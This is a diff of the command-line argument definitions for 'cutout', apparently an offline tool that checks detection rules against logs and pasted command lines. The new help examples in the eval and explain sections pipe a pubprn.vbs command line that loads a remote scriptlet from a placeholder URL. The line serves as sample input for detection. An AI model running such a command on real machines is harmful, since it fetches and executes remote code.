@@ -18,6 +18,9 @@ pub struct Args {
 }
 
 const EXIT_CODES: &str = "\
+Example:
+  echo 'cscript .\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct' | cutout eval -
+
 Exit codes: 0 = ran, 1 = findings when --fail-on asks, 2 = could not run, or not on all of the input.
 Nothing leaves this machine: cutout opens no network connection.";
 
@@ -35,16 +38,19 @@ pub enum Command {
 #[derive(Debug, clap::Args)]
 #[command(after_help = "\
 Examples:
-  cutout eval lines.txt                          the pack t1216 on pasted command lines
+  echo 'cscript .\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct' | cutout eval -
+  cutout eval lines.txt                          the pack t1216 on command lines or any log
   cutout eval --rules rules/ --json logs/        your rules on a folder of logs, for a machine
-  evtx_dump -o json x.evtx | cutout eval -       events from standard input
   cutout eval --fail-on high events.ndjson       exit 1 on a match of level high or above
+
+Files may be of any size, and compressed with gzip: they are read piece by piece.
 
 With --json every line is one object: {\"event\",\"rule\",\"verdict\",\"needs\"}, the last one {\"summary\"}.
 event.index counts the events of the whole run from 0, event.line the lines of a file from 1;
-event.file names the file where several are evaluated.")]
+event.file names the file where several are evaluated. \"partial\":true stands beside a verdict that
+is about the filters of a rule only, because the rest of it can't be run.")]
 pub struct Eval {
-    /// Files with events, folders of them, or - for standard input
+    /// Files with events in any format, folders of them, or - for standard input
     #[arg(required = true, value_name = "EVENTS")]
     pub events: Vec<PathBuf>,
     #[command(flatten)]
@@ -87,18 +93,27 @@ pub struct Reading {
     /// Evaluate every rule on every event, whatever log the rule is for
     #[arg(long)]
     pub ignore_logsource: bool,
+    /// Bytes of text that are taken at once; tests set it, so that small files have many windows
+    #[arg(long, hide = true, default_value_t = 4 << 20)]
+    pub window: usize,
 }
 
-/// Check rules: ok, unsupported or error, a file each, and a summary
+/// Check rules: ok, unsupported or error, a file each, and figures a language
 ///
-/// unsupported: the rule is sound, but uses something that cutout does not evaluate.
+/// unsupported: the rule is sound, but uses something that cutout does not evaluate; what it is and
+/// where stands beneath. Where that is a warning, the rest of the rule is evaluated: filters only.
 /// A rule that is ok may still carry warnings.
 #[derive(Debug, clap::Args)]
 #[command(after_help = "\
 Examples:
-  cutout lint rules/                             every .yml and .yaml file beneath
+  echo 'process where process.name : \"cscript.exe\"' | cutout lint --language eql -
+  cutout lint rules/                             every file of rules beneath
   cutout lint --fail-on error rules/             exit 1 where a rule is broken
+  cutout lint --quiet rules/                     only what is not ok, and the figures
   cutout lint --json rule.yml                    for a machine
+
+In a folder, files are left out and counted that plainly hold something other than rules. A file
+that is named itself is always read.
 
 With --json every line is one object: {\"path\",\"language\",\"status\",\"diagnostics\"}, the last one
 {\"summary\"}.")]
@@ -127,15 +142,18 @@ pub struct Lint {
 #[derive(Debug, clap::Args)]
 #[command(after_help = "\
 Examples:
+  echo 'cscript .\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct' | cutout explain -
   cutout explain --rule t1216/pubprn lines.txt   a rule of the pack
-  cutout explain --rule my.yml --line 3 lines.txt
-  cutout explain --rule my.yml --verdict cannot-tell events.json
+  cutout explain --rule rule.yml --line 3 lines.txt
+  cutout explain --rule rule.yml --verdict cannot-tell events.ndjson
+
+Without --rule, those rules of the pack are explained that match or for which something speaks.
 
 With --json every line is what `eval --json` prints, with the event's fields, how many indicators
 hold (evidence), the trace, and exclusions of other rules that would hold. Spans count bytes: those
 of trace nodes in the rule file, those of marks in the field's value.")]
 pub struct Explain {
-    /// Files with events, folders of them, or - for standard input
+    /// Files with events in any format, folders of them, or - for standard input
     #[arg(required = true, value_name = "EVENTS")]
     pub events: Vec<PathBuf>,
     #[command(flatten)]
